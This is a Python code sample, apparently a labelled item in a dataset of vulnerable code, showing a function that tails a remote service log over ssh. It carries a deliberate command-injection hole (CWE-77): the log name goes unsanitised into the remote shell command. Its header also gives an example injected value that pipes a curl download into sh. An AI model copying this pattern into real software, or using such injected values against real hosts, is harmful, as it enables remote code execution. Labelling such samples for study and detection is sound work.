# ---
# id: cwe77-r3-ssh-tail-remote-log-v
# cwe: CWE-77
# vulnerable: true
# twin: none
# tags: subprocess, ssh
# explanation: An ops dashboard fetches a log from a fleet host over ssh; the log name is picked in the UI and sent with the request. Locally no shell is used, but ssh passes the command string to the remote login shell, so a name like 'x; curl host/s | sh' runs commands on the fleet host.
# ---
import subprocess


def tail_remote_log(host, logname, lines=100):
    """Fetch the last lines of a service log from a fleet host."""
    remote = "tail -n %d /var/log/services/%s" % (int(lines), logname)  #@vuln
    res = subprocess.run(["ssh", "-o", "BatchMode=yes", host, remote],
                         capture_output=True, text=True, timeout=30)
    return res.stdout
